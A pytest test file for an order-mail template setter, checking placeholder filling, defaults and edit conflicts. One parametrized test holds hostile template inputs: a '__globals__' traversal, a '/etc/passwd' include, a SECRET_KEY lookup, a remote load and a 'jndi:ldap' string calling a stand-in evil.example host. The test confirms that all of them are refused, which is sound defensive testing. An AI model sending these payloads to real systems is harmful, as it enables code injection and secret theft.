"""mailtemplate.set: how the mail of an order begins."""

from functools import partial
from typing import Any

import pytest

from counterfoil.foundation.kernel import scope
from counterfoil.foundation.kernel.refusals import Stale
from counterfoil.foundation.mail.actions import TemplateValues, set_template
from counterfoil.insight.policies.mail import draft
from counterfoil.lifecycle.orders.models import Order, Revision

from ..cast import NOW, Cast
from ..mailing import addressed
from .verb import Given, VerbTests, refused, untouched


class TestSetTemplate(VerbTests):
    verb, who, stranger_finds_nothing = "mailtemplate.set", "olga", False

    def given(self, cast: Cast) -> Given:
        return {"values": worded("Order {number}", "Dear {contractor}")}

    def otherwise(self, given: Given) -> Given:
        return {"values": worded("Other {number}", "Dear {contractor}")}


def worded(subject: str, text: str) -> TemplateValues:
    return TemplateValues(subject=subject, text=text)


def begun(cast: Cast, **more: Any) -> Any:
    """The mail of an issued order as it begins."""
    addressed(cast)
    order_id = cast.issued(**more)
    with scope.reading(cast.company_id):
        order = Order.objects.select_related("contractor").get(id=order_id)
        return draft(cast.iris, order, Revision.objects.get(order_id=order_id))


@pytest.mark.req(169)
def test_a_mail_begins_with_it(cast: Cast) -> None:
    text = "Dear {contractor}, {title} over {total} of {issued_on}. {sender}, {company}. 100 %"
    set_template(by=cast.olga, at=NOW, values=worded("Order {number}", text))
    mail = begun(cast)
    assert mail.recipients == ["cleo@studio.example"]
    assert mail.subject.startswith("Order PO-")
    assert mail.text.startswith(
        "Dear Cleo, Spring catalogue over 1,000.00 EUR of Mar 2, 2026. Iris, Acme Studio. 100 %"
    )


def test_there_is_one_from_the_beginning(cast: Cast) -> None:
    mail = begun(cast)
    assert "Acme Studio" in mail.subject
    assert "{" not in mail.subject + mail.text


def test_what_is_put_in_is_not_read_again(cast: Cast) -> None:
    """A title that looks like a place is a title."""
    set_template(by=cast.olga, at=NOW, values=worded("Order", "{title} for {contractor}"))
    assert begun(cast, title="{sender} {total}").text == "{sender} {total} for Cleo"


@pytest.mark.req(169)
@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("{password}", "unknown_place"),
        ("{order.document}", "no_mere_place"),
        ("{number.__class__.__init__.__globals__}", "no_mere_place"),
        ("{number!r}", "no_mere_place"),
        ("{number:>1000000000}", "no_mere_place"),
        ("{0}", "no_mere_place"),
        ("{% include '/etc/passwd' %}", "no_mere_place"),
        ("{{ settings.SECRET_KEY }}", "no_mere_place"),
        ("{% load http://evil.example/x %}", "no_mere_place"),
        ("${jndi:ldap://evil.example}", "no_mere_place"),
        ("{number", "no_mere_place"),
        ("{{number}}", "no_mere_place"),
    ],
)
def test_it_names_what_is_put_in_and_does_nothing_else(cast: Cast, text: str, reason: str) -> None:
    """It reads no file, no network and no attribute: whatever braces could be meant to do is refused as it is saved."""
    for values in (worded("Order", text), worded(text[:200], "Text")):
        assert reason in refused(cast, partial(set_template, by=cast.olga, at=NOW, values=values))


def test_nobody_s_newer_text_is_overwritten(cast: Cast) -> None:
    values = worded("Order", "Text")
    set_template(by=cast.olga, at=NOW, values=values, version=0)
    untouched(cast, Stale, partial(set_template, by=cast.iris, at=NOW, values=values, version=0))
